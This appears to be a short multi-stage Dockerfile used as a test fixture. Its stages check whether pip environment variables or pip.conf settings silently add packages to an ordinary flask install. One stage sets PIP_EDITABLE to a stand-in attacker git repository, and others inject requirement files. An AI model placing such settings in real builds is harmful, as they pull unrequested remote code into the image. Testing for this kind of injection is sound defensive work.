FROM python:3.12 AS a
ENV PIP_EDITABLE=git+https://github.com/attacker/evil#egg=evil
RUN pip install --only-binary :all: flask
FROM python:3.12 AS b
ENV PIP_REQUIREMENT=/tmp/r.txt PIP_CONSTRAINT=/tmp/c.txt
RUN pip install --only-binary :all: flask
FROM python:3.12 AS c
RUN printf '[install]\nrequirement = /tmp/r.txt\n' > /etc/pip.conf
RUN pip install --only-binary :all: flask
FROM python:3.12 AS d
ENV PIP_REQUIREMENT=
RUN pip install --only-binary :all: flask
